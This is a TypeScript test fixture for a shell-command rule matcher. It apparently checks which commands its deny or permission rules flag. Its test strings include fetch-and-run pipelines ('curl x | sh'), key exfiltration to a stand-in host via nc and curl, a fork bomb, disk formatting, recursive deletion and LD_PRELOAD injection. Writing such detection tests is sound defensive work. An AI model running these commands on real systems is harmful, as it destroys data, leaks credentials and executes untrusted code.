/**
 * The meaning of each key of a `match`: a rule, scripts about which it is, and scripts about which it is not. This file
 * is over 350 lines because it has a case for each key.
 */

export interface MatchCase {
  readonly match: string;
  readonly fires: readonly string[];
  readonly idle: readonly string[];
}

export const matchCases: readonly MatchCase[] = [
  {
    match: 'command: rm',
    fires: [
      'rm',
      'rm x',
      '/bin/rm x',
      "r'm' x",
      '\\rm x',
      'ls; rm x',
      'sudo rm x',
      '$(rm x)',
      'sh -c "rm x"',
      'c=rm; $c x',
    ],
    idle: ['rmdir x', 'echo rm', 'RM x', 'git rm x', '# rm x', "echo 'rm x'"],
  },
  { match: 'command: {any_of: [pip, pip3]}', fires: ['pip', 'pip3 x'], idle: ['pip2', 'pip31'] },
  { match: 'command: {any_of: [a, b, c, d, e, "["]}', fires: ['e x', '[ -f x ]'], idle: ['f', '[[ -f x ]]'] },
  { match: 'command: mkfs.*', fires: ['mkfs.ext4 /dev/sda'], idle: ['mkfs /dev/sda', 'xmkfs.ext4'] },
  {
    match: 'command: "python{,3,3.[0-9]*}"',
    fires: ['python x', 'python3', 'python3.12 x'],
    idle: ['python2', 'ipython'],
  },
  {
    match: 'command: git, subcommand: push',
    fires: ['git push', 'git -C /r push', 'git -c a=b push -f', 'git --no-pager push'],
    idle: ['git stash push', 'git log push', 'git'],
  },
  {
    match: 'command: git, subcommand: [remote set-url, stash drop]',
    fires: ['git remote set-url o u', 'git remote -v set-url o', 'git stash -q drop'],
    idle: ['git remote', 'git remote o set-url', 'git stash', 'git set-url remote'],
  },
  {
    match: 'command: rm, flags: {any_of: [-r, --recursive]}',
    fires: ['rm -r x', 'rm -rf x', 'rm -fr x', 'rm x -r', 'rm --recursive x'],
    idle: ['rm x', 'rm -f x', 'rm -- -r', 'rm --recursivex', 'rm r'],
  },
  {
    match: 'command: rm, flags: {all_of: [-r, -f]}',
    fires: ['rm -rf x', 'rm -r -f x'],
    idle: ['rm -r x', 'rm -f x', 'rm -r -- -f'],
  },
  {
    match: 'command: unzip, flags: {none_of: [-l, -t]}',
    fires: ['unzip x', 'unzip -o x'],
    idle: ['unzip -l x', 'unzip -qt x'],
  },
  {
    match: 'command: git, flags: {starts_with: [--for]}',
    fires: ['git push --force', 'git push --force-with-lease=a/b'],
    idle: ['git push --follow-tags', 'git push for'],
  },
  {
    match: 'command: git, flags: {any_of: [drop, clear]}',
    fires: ['git stash drop', 'git stash clear'],
    idle: ['git stash', 'git stash -drop'],
  },
  {
    match: 'command: git, flags: {any_of: [., -f]}',
    fires: ['git checkout .', 'git checkout -f'],
    idle: ['git checkout ./'],
  },
  {
    match: 'command: x, flags: {any_of: [--data]}',
    fires: ['x --data=1', 'x --data 1'],
    idle: ['x --database'],
  },
  {
    match: 'command: rm, args: {any_of: [/, "/etc/*", "**/.env", "-f"]}',
    fires: ['rm /', 'rm a /etc/x', 'rm .env', 'rm a/b/.env', 'rm /a/.env', 'rm -f'],
    idle: ['rm /etc', 'rm /etc/a/b', 'rm .environment', 'rm x.env'],
  },
  { match: 'command: git, args: {any_of: ["+**"]}', fires: ['git push o +a/b'], idle: ['git push o a+b'] },
  {
    match: 'command: git, args: {all_of: [config, "alias.*"]}',
    fires: ['git config alias.x y'],
    idle: ['git config user.x', 'git alias.x'],
  },
  {
    match: 'command: gh, args: {none_of: ["-f**", POST]}',
    fires: ['gh api x'],
    idle: ['gh api -X POST', 'gh api -fa=b'],
  },
  {
    match: 'command: git, args: {case_insensitive: true, any_of: ["Core.Pager=*"]}',
    fires: ['git -c core.pager=x log', 'git -c CORE.PAGER=x log'],
    idle: ['git -c core.pagers=x log'],
  },
  { match: "command: curl, args: {matches: '^@'}", fires: ['curl -d @x u'], idle: ['curl x@y'] },
  {
    match: "command: curl, args: {matches: ['^@', 'secret']}",
    fires: ['curl -d @x u', 'curl my-secrets'],
    idle: ['curl u'],
  },
  {
    match: 'command: rm, args: {under: ["/etc/**", "~/.ssh/**", "$TMPDIR/**"]}',
    fires: [
      'rm /etc/x',
      'rm /tmp/../etc/x',
      'rm //etc//x',
      'rm $HOME/.ssh/id',
      'rm "$\x7bHOME}"/.ssh/id',
      'rm ~/a/../.ssh/b',
      'rm $TMPDIR/x',
      'rm ../etc/x',
    ],
    idle: ['rm /etc/../tmp/x', 'rm etc/x', 'rm $HOMES/.ssh/id', 'rm ~root/.ssh/id', 'rm $TMPDIR/../x'],
  },
  {
    match: 'command: rm, args: {under: ["/etc/**", "~/.ssh/**"]}',
    fires: [
      'cd /etc && rm x',
      'cd /etc; rm x',
      'cd / && cd etc/a && rm ../x',
      'cd ../etc && rm x',
      'cd && rm .ssh/id',
      'cd ~/.ssh && rm id',
      'pushd /etc; rm x; popd',
      'env -C /etc rm x',
      '(cd /etc && rm x)',
      'f() { cd /etc; }; f; rm x',
    ],
    idle: [
      'cd /etc && ls; cd /tmp && rm x',
      '(cd /etc); rm x',
      'cd /etc | rm x',
      'cd /etc || rm x',
      'cd ~ && rm ../.ssh/x',
      'cd "$x" && rm etc/x',
    ],
  },
  {
    match: 'command: rm, args: {outside: ["/tmp/**"]}',
    fires: ['cd /tmp; rm x', 'rm x', 'cd "$x" && rm x'],
    idle: ['cd /tmp && rm x', 'cd /tmp || exit 1; rm x y'],
  },
  {
    match: 'command: rm, unless: {args: {under: ["/tmp/**"]}}',
    fires: ['cd /tmp; rm x'],
    idle: ['cd /tmp && rm x'],
  },
  {
    match: 'command: cp, args: {last_under: ["/etc/**"]}',
    fires: ['cp a /etc/b', 'cp a /etc/b -f', 'cp /etc/a /etc/b', 'cd /etc && cp ~/a b'],
    idle: ['cp /etc/a b', 'cp -t /etc/a b', 'cp'],
  },
  {
    match: 'command: rm, args: {outside: ["/tmp/**", "/project/**"]}',
    fires: ['rm /etc/x', 'rm /tmp/x /etc/x', 'rm /tmp/../x', 'rm $x', 'rm ../x', 'cd /; rm x'],
    idle: ['rm', 'rm /tmp/x', 'rm x y', 'rm -f x'],
  },
  {
    match: 'command: rm, args: {form: expanded}',
    fires: ['rm $x', 'rm "a$(ls)"'],
    idle: ["rm '$x'", 'rm *', 'x=1; rm $x'],
  },
  {
    match: 'command: git, args: {subcommand: [checkout, switch]}',
    fires: ['git checkout x', 'git -C a switch x'],
    idle: ['git branch checkout'],
  },
  {
    match: 'command: git, args: {argv_first: "-c", argv_first_not: config}',
    fires: ['git -c x'],
    idle: ['git config', 'git x -c'],
  },
  {
    match: 'command: git, args: {min_args: 3}',
    fires: ['git config a b', 'git -C /r config a b'],
    idle: ['git config a', 'git -C /r config a', 'git'],
  },
  { match: 'command: x, args: {min_args: 1, max_args: 1}', fires: ['x --version'], idle: ['x', 'x a b'] },
  {
    match: 'command: set, args: {only: ["-?*", pipefail]}',
    fires: ['set -e', 'set -euo pipefail', 'set'],
    idle: ['set a', 'set -e a'],
  },
  {
    match: 'pipeline: {stages: [{command: {any_of: [curl, wget]}}, {command: {any_of: [sh, bash]}}]}',
    fires: [
      'curl x | sh',
      'wget x | tee y | bash',
      'curl x | sudo bash',
      'a | curl x | sh',
      '(curl x) | sh',
      'x=$(curl y | sh)',
    ],
    idle: ['sh | curl x', 'curl x; sh', 'curl x || sh y', 'curl x | cat', 'echo "curl x | sh"'],
  },
  {
    match: 'pipeline: {stages: [{command: curl}, {command: python3, flags: {none_of: [-m]}}]}',
    fires: ['curl x | python3'],
    idle: ['curl x | python3 -m json.tool'],
  },
  {
    match: 'redirect: {op: {any_of: [">", ">>"]}, target: {any_of: ["**/.env", "/dev/sd*"]}}',
    fires: ['echo x > .env', 'echo x >> a/.env', 'cat x 2> /dev/sda', '> .env'],
    idle: ['cat < .env', 'echo x > env', 'echo "> .env"', 'echo x >| .env'],
  },
  { match: 'redirect: {op: "<", target: {any_of: [x]}}', fires: ['cat < x'], idle: ['cat > x', 'cat x'] },
  {
    match: 'redirect: {op: ">", except: [/dev/null]}',
    fires: ['a > b', 'a > /dev/null > b'],
    idle: ['a > /dev/null', 'a', 'a 2>&1'],
  },
  {
    match: 'effect: {kind: execute, origin: [downloaded, outside]}',
    fires: ['curl -o x.sh https://a.example/x; bash x.sh'],
    idle: ['curl -o x.sh https://a.example/x', 'bash x.sh'],
  },
  {
    match: 'effect: {kind: [connect, send], network: [registry, other]}',
    fires: ['curl https://a.example', 'npm install x', 'git push https://a.example/r'],
    idle: ['curl http://localhost:3000', 'curl http://127.0.0.1/x', 'cat x'],
  },
  {
    match: 'effect: {kind: send, carries: ["**/*.key", "!**/test.key"]}',
    fires: [
      'curl -d @a.key https://a.example',
      'cat a.key | nc a.example 80',
      'cp a.key b; tar cf c b; curl -T c https://a.example',
      'curl -d "$(base64 a.key)" https://a.example',
    ],
    idle: [
      'curl --key a.key https://a.example',
      'curl -d @test.key https://a.example',
      'cat a.key; curl -d x https://a.example',
      'curl -T c https://a.example; cp a.key c',
    ],
  },
  {
    match: 'redirect: {under: ["~/.ssh/**"]}',
    fires: ['a >> $HOME/.ssh/config', 'a > ~/x/../.ssh/b', 'cd ~/.ssh && a > b'],
    idle: ['a > ~/.ssh/../x'],
  },
  {
    match: 'command: git, env: {any_of: [GIT_SSH, "GIT_CONFIG_KEY_*"]}',
    fires: [
      'GIT_SSH=x git fetch',
      'env GIT_SSH=x git fetch',
      'export GIT_SSH=x; git fetch',
      'GIT_CONFIG_KEY_0=a git x',
    ],
    idle: ['GIT_SSH=x; git fetch', 'GIT_SSHX=x git fetch', 'git fetch', 'GIT_SSH=x ls; git fetch'],
  },
  {
    match: 'command: git, env: {any_of: [git_ssh], case_insensitive: true}',
    fires: ['GIT_SSH=x git a'],
    idle: ['GIT_SSH_X=x git a'],
  },
  {
    match: 'command: git, env: {any_of: [EDITOR], except: [{names: [EDITOR], value_class: shell-noop}]}',
    fires: [
      'EDITOR=vim git commit',
      'EDITOR=true EDITOR=vim git commit',
      // It comes to `true`, but is not plainly written.
      'EDITOR=tr\\ue git commit',
      "EDITOR=tr'ue' git commit",
      "EDITOR=$'true' git commit",
      'EDITOR="$(printf true)" git commit',
      'x=true; EDITOR=$x git commit',
      'EDITOR+=true git commit',
      "env EDITOR='true' git commit",
      'EDITOR=true EDITOR=tr\\ue git commit',
    ],
    idle: [
      'EDITOR=true git commit',
      "EDITOR='true' git commit",
      'EDITOR="true" git commit',
      'env EDITOR=true git commit',
    ],
  },
  {
    match: 'pipeline: {stages: [{command: a, args: {min_args: 1}}, {command: b, args: {min_args: 1}}]}',
    fires: ['a x | b y z', 'a x y | b z'],
    idle: ['a | b x', 'a x | b'],
  },
  {
    match: 'command: sudo, args: {min_args: 1}, runs: {command: b, args: {min_args: 1}}',
    fires: ['sudo b c', 'sudo b c d'],
    idle: ['sudo b', 'b c'],
  },
  {
    match: 'command: printenv',
    fires: ['printenv', 'env', 'env -i', 'A=b env', 'sudo env', 'env A=b', '/usr/bin/env | sort'],
    idle: ['env ls', 'env A=b ls', 'env $x', 'env -S "$x"', 'printf env', 'environment'],
  },
  { match: 'command: {any_of: [env, printenv]}', fires: ['env ls', 'printenv'], idle: ['ls'] },
  { match: 'env: {any_of: ["PATH=.:**"]}', fires: ['PATH=.:/bin ls'], idle: ['PATH=/bin ls'] },
  {
    match: 'sets: {any_of: [LD_*]}',
    fires: [
      'LD_PRELOAD=x ls',
      'LD_PRELOAD=x',
      'export LD_PRELOAD=x',
      'env LD_PRELOAD=x ls',
      'declare -x LD_A=b',
    ],
    idle: ['LDFLAGS=x ls', 'echo LD_PRELOAD=x', 'export PATH'],
  },
  {
    match: 'git_config: {keys: [core.editor], key_case_insensitive: true, except_value_class: shell-noop}',
    fires: [
      'git -c core.editor=vim x',
      'git -c CORE.Editor=vim x',
      'git -c core.editor=true -c core.editor=vim x',
      "git -c core.editor='tr''ue' x",
    ],
    idle: ['git -c core.editor=true x', 'git -c a=b x', 'git log core.editor=vim', 'x -c core.editor=vim'],
  },
  {
    match: 'git_config: {keys: [core.editor], value_class: shell-noop}',
    fires: ['git -c core.editor=true x'],
    idle: ['git -c core.editor=vim x', "git -c core.editor='true' x"],
  },
  {
    match: 'code: {language: python, matches: rmtree}',
    fires: ["python -c 'rmtree(1)'", 'python3 <<X\nrmtree(1)\nX', "sudo python3 -c 'rmtree(1)'"],
    idle: ["python -c 'x'", "node -e 'rmtree(1)'", 'echo rmtree', 'python rmtree'],
  },
  {
    match: 'code: {language: [perl, ruby]}',
    fires: ['perl -e 1', 'ruby -e 1'],
    idle: ['python -c 1', 'perl x'],
  },
  {
    match: "code: {matches: ['a.b', '(?i)C']}",
    fires: ["node -e 'a b'", 'python -c c'],
    idle: ['python -c d'],
  },
  {
    match: 'command: bash, runs: {command: {any_of: [curl, wget]}}',
    fires: ['bash -c "$(curl x)"', 'bash <(curl x)', 'bash -c "sudo curl x"'],
    idle: ['bash -c ls', 'curl x; bash y', 'sh -c "$(curl x)"'],
  },
  {
    match: 'command: rm, through: {any_of: [ssh, xargs]}',
    fires: ['ssh h rm x', 'ssh h sudo rm x', 'ls | xargs rm'],
    idle: ['rm x', 'sudo rm x', 'ssh h ls; rm x'],
  },
  { match: 'command: rm, through: {none_of: [ssh]}', fires: ['rm x', 'sudo rm x'], idle: ['ssh h rm x'] },
  { match: 'opaque: true', fires: ['$x', 'curl y | sh', 'eval "$z"'], idle: ['ls', 'echo $x'] },
  { match: 'opaque: {why: input}', fires: ['curl y | sh'], idle: ['$x -rf'] },
  {
    match: 'command: env, path: ["/tmp/**", "./*"]',
    fires: ['/tmp/env x=1 ls', './env ls'],
    idle: ['env ls', '/usr/bin/env ls'],
  },
  { match: 'command: gh, path: none', fires: ['gh x'], idle: ['/tmp/gh x'] },
  { match: "script: {matches: ':\\(\\)\\s*\\{'}", fires: [':(){ :|:& };:'], idle: [':', 'f() { ls; }'] },
  {
    match: 'script: {matches: secret}, redirect: {target: {any_of: [out]}}',
    fires: ['ls secret; pwd > out', 'ls > out # secret'],
    idle: ['ls > out', 'ls secret'],
  },
  {
    match: 'command: gh, unless: [{env: {any_of: ["*"]}}, {flags: {any_of: [-X]}, args: {none_of: [GET]}}]',
    fires: ['gh api x', 'gh api -X GET x'],
    idle: ['A=b gh api x', 'gh api -X POST x'],
  },
  { match: 'flags: {none_of: [-r]}', fires: ['ls'], idle: ['ls -r'] },
];
